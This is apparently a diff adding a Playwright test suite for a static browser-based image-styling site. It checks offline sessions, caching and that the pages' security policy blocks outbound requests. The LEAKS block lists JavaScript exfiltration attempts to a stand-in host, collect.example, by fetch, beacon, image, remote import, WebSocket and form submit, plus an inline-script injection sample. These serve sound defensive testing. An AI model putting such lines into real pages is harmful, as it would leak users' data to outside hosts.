@@ -1,0 +1,165 @@
+"""`dist/site/` at some path of a static host: a whole session, with and without a network, never leaving its origin."""
+
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+
+from build.site.command import CACHE, write_site
+from build.site.listing import site_files
+from tests.support.chromium import Watch, wait_until
+from tests.support.paintings import (
+    PAINT_MS,
+    START_MS,
+    assert_same_painting,
+    canvas_pixels,
+    expected_painting,
+    state,
+    upload,
+)
+from tests.support.paths import ROOT
+from tests.support.server import static_server
+
+SAMPLE = (ROOT / "www" / "photos" / "cat.jpg").read_bytes()
+STYLE, OTHER = "starry-night-nc16", "great-wave-nc16"
+PATH = "some/path/atelier"
+
+
+@pytest.fixture(scope="module")
+def host(vendor: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """The address of a host, without a final slash; the site is at `{host}/some/path/atelier/`."""
+    folder = tmp_path_factory.mktemp("host")
+    root = vendor.parents[1]
+    write_site(root, site_files(root), folder / PATH, CACHE)
+    with static_server(folder) as address:
+        yield address
+
+
+@pytest.fixture
+def context(browser: Browser, host: str) -> Iterator[BrowserContext]:
+    """A visitor whose every request is watched, the service worker's and the workers' too."""
+    context = browser.new_context(service_workers="allow")
+    watch = Watch(context, host)
+    yield context
+    context.close()
+    assert watch.problems == []
+
+
+def paint(page: Page, style: str) -> None:
+    upload(page, "cat.jpg", SAMPLE)
+    page.click(f'button[data-style="{style}"]')
+    page.select_option("#engine", "ort:wasm")
+    page.select_option("#size", "128")
+    page.click("#run")
+    state(page, "done")
+    assert_same_painting(canvas_pixels(page), expected_painting(SAMPLE, style, 128))
+
+
+def wait_until_kept(page: Page) -> None:
+    wait_until(
+        page,
+        """async () => {
+            const listing = await (await fetch('vendor/site.json')).json();
+            const wanted = listing.files.filter(({ keep }) => keep !== 'used').length;
+            const cache = await caches.open(`site ${location.pathname} ${listing.release}`);
+            return (await cache.keys()).length > wanted;
+        }""",
+        START_MS,
+    )
+
+
+def report(page: Page, address: str) -> list[object]:
+    page.goto(address)
+    page.wait_for_selector("#status[data-state=done]", timeout=PAINT_MS)
+    results: list[object] = json.loads(page.text_content("#results") or "")["results"]
+    return results
+
+
+def test_a_whole_session(context: BrowserContext, host: str) -> None:
+    page = context.new_page()
+    page.goto(f"{host}/{PATH}/")
+    page.wait_for_url("**/www/")
+    state(page, "ready", START_MS)
+    paint(page, STYLE)
+    page.focus("#compare")
+    page.keyboard.press("End")
+    expect(page.locator("#compare")).to_have_attribute("aria-valuenow", "100")
+    with page.expect_download() as download:
+        page.click("#download")
+    assert download.value.path().stat().st_size > 1_000
+    wait_until_kept(page)
+    assert page.evaluate("fetch('../models/nothing.onnx').then(({ status }) => status)") == 404
+
+    context.set_offline(True)
+    page.reload()
+    state(page, "ready", START_MS)
+    assert page.evaluate("crossOriginIsolated")
+    paint(page, OTHER)
+    query = f"engines=ort:wasm&models={STYLE}&sizes=64&runs=1&autorun=1"
+    assert len(report(page, f"{host}/{PATH}/www/benchmark.html?{query}")) == 1
+    context.set_offline(False)
+    assert report(page, f"{host}/{PATH}/www/ops.html?engines=ort:wasm&autorun=1")
+
+
+LEAKS = {
+    "fetch": "fetch('https://collect.example/', { method: 'POST', body: 'photo' }).catch(() => undefined)",
+    "picture": "new Image().src = 'https://collect.example/x.png'",
+    "script": "import('https://collect.example/x.js').catch(() => undefined)",
+    "socket": "new WebSocket('wss://collect.example/')",
+    "beacon": "navigator.sendBeacon('https://collect.example/', 'photo')",
+    "form": """(() => {
+        const form = Object.assign(document.createElement('form'), { action: 'https://collect.example/' });
+        document.body.append(form);
+        form.submit();
+    })()""",
+}
+INLINE = """(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.injected = true';
+    document.head.append(script);
+})()"""
+REFUSED = """() => new Promise((resolve) => {{
+    addEventListener('securitypolicyviolation', (event) => resolve(event.blockedURI), true);
+    setTimeout(() => resolve('nothing was refused'), 10_000);
+    {leak};
+}})"""
+
+
+@pytest.fixture(scope="module", params=["index.html", "benchmark.html", "ops.html"])
+def bare_page(browser: Browser, host: str, request: pytest.FixtureRequest) -> Iterator[Page]:
+    """A page whose Python does not start: its policy is its own, without a service worker's help."""
+    context = browser.new_context(service_workers="block")
+    page = context.new_page()
+    page.route("**/vendor/**", lambda route: route.abort())
+    page.goto(f"{host}/{PATH}/www/{request.param}")
+    state(page, "error")
+    yield page
+    context.close()
+
+
+@pytest.mark.parametrize("leak", LEAKS.values(), ids=LEAKS.keys())
+def test_no_page_can_talk_to_anyone_else(bare_page: Page, leak: str) -> None:
+    blocked: str = bare_page.evaluate(REFUSED.format(leak=leak))
+    assert "collect.example" in blocked
+
+
+def test_nothing_injected_runs(bare_page: Page) -> None:
+    assert bare_page.evaluate(REFUSED.format(leak=INLINE)) == "inline"
+    assert bare_page.evaluate("window.injected") is None
+
+
+def test_no_worker_can_talk_to_anyone_else(context: BrowserContext, host: str) -> None:
+    page = context.new_page()
+    page.add_init_script("performance.now = () => 0")  # early enough to reload, however slow this machine is
+    page.goto(f"{host}/{PATH}/www/")
+    wait_until(page, "crossOriginIsolated", START_MS)
+    state(page, "ready", START_MS)
+    with page.expect_worker():
+        page.evaluate("void (window.kept = new Worker('engine/worker.js'))")
+    names = {urlsplit(worker.url).path.removeprefix(f"/{PATH}/www/") for worker in page.workers}
+    assert names == {"logic/worker.js", "engine/worker.js"}
+    for worker in page.workers:
+        assert "collect.example" in worker.evaluate(REFUSED.format(leak=LEAKS["fetch"]))
